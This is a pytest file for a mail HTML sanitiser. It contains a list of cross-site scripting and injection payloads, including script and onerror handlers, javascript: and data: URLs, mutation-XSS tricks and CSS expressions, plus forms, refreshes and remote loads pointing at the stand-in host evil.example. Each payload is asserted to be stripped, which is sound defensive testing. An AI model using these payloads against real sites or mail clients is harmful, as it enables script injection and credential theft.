"""HTML of strangers: nothing that runs, submits, overlays or loads survives."""

from __future__ import annotations

import re

import pytest

from channels_in.mail.safe_html import is_sane, sanitise
from channels_in.messages import Note
from tests.channels_in.mail.letters import an_html_letter, read


def shown(source: str) -> str:
    return sanitise(source, {}).html


@pytest.mark.parametrize(
    "source",
    [
        "<script>alert(1)</script>",
        "<scr<script>ipt>alert(1)</scr</script>ipt>",
        "<img src=x onerror=alert(1)>",
        "<svg onload=alert(1)><style><img src=x onerror=alert(1)></style></svg>",
        '<math><mtext><table><mglyph><style><!--</style><img title="--&gt;&lt;img src=1 onerror=x()&gt;">',
        '<noscript><p title="</noscript><img src=x onerror=alert(1)>">',
        '<a href="javascript:alert(1)">x</a>',
        '<a href="java\nscript:alert(1)">x</a>',
        '<a href=" &#106;avascript:alert(1)">x</a>',
        '<a href="data:text/html,<script>alert(1)</script>">x</a>',
        '<a href="vbscript:x">x</a>',
        '<iframe src="https://evil.example"></iframe>',
        '<object data="https://evil.example"></object><embed src=x>',
        '<form action="https://evil.example"><input name=password><button>OK</button></form>',
        '<meta http-equiv=refresh content="0;url=https://evil.example"><base href="https://evil.example">',
        "<style>@import url(https://evil.example/x.css)</style>",
        '<link rel=stylesheet href="https://evil.example/x.css">',
        '<div style="position:fixed;top:0;left:0;z-index:9">x</div>',
        '<div style="background:url(https://evil.example/p)">x</div>',
        '<div style="background-color:expression(alert(1))">x</div>',
        '<div style="color:red;background-color:\\75rl(https://evil.example)">x</div>',
        '<div style="margin-top:-500px">x</div>',
        '<table background="https://evil.example/p"><tr><td>x</td></tr></table>',
        '<video src="https://evil.example/v" poster="https://evil.example/p"></video>',
        '<img srcset="https://evil.example/p 2x">',
        '<img src="//evil.example/p">',
        '<img src="data:image/svg+xml;base64,PHN2Zz4=">',
        '<div hx-get="https://evil.example" data-hx-post="/x" hx-on:click="alert(1)">x</div>',
        '<div class="dialog" id="header" data-behaviour="menu" onclick="x()">x</div>',
        '<img data-attachment="7" data-remote-src="javascript:alert(1)">',
    ],
)
def test_nothing_dangerous_survives(source: str):
    html = shown(source)

    assert not re.search(r"<(?!/?(?:a|p|div|table|tbody|tr|td|img)\b)", html), html
    assert not re.search(
        r"(?i)script:|url\(|\son\w+=|hx-|expression|position|@import|class=|\sid=|srcset", html
    )
    assert "evil.example" not in html
    assert "data-attachment" not in html
    assert not re.search(r'\ssrc="(?!data:image/png)', html)


def test_what_people_write_is_kept():
    source = '<p style="color:red">Halo <b>kak</b>, <a href="https://toko.example/?a=1&amp;b=2">ini</a></p><ul><li>satu</li></ul>'

    assert shown(source) == (
        '<p style="color:red">Halo <b>kak</b>, <a href="https://toko.example/?a=1&amp;b=2" target="_blank" '
        'rel="noopener noreferrer nofollow">ini</a></p><ul><li>satu</li></ul>'
    )


@pytest.mark.parametrize("scheme", ["http", "https", "mailto", "tel"])
def test_a_harmless_link_stays(scheme: str):
    assert f'href="{scheme}:' in shown(f'<a href="{scheme}:x">x</a>')


def test_a_relative_link_leads_nowhere():
    assert "href" not in shown('<a href="/agents/1/delete">x</a>')


def test_an_embedded_picture_stays():
    assert shown('<img src="data:image/png;base64,aaaa">') == '<img src="data:image/png;base64,aaaa">'


def test_an_image_of_an_attachment_we_do_not_have_is_left_empty():
    assert sanitise('<img src="cid:nowhere" alt="logo">', {}).html == '<img alt="logo">'


@pytest.mark.parametrize(
    "source",
    [
        pytest.param("<div>" * 40_000, id="nested"),
        pytest.param("x" * 1_100_000, id="long"),
        pytest.param("<p " + " ".join(f"a{n}=1" for n in range(50_000)) + ">", id="many attributes"),
    ],
)
def test_html_that_would_hold_up_the_parser_is_told_apart(source: str):
    assert not is_sane(source)


def test_ordinary_html_without_closing_tags_is_sane():
    assert is_sane("<table>" + "<tr><td><p>x<br><li>y" * 5000)


def test_of_html_too_deep_to_be_shown_the_words_remain():
    mail = read(an_html_letter("<p>Tolong</p>" + "<div>" * 2000 + "bantu"))

    assert mail.html == ""
    assert mail.text.split() == ["Tolong", "bantu"]
    assert Note.HTML_AS_TEXT in mail.notes
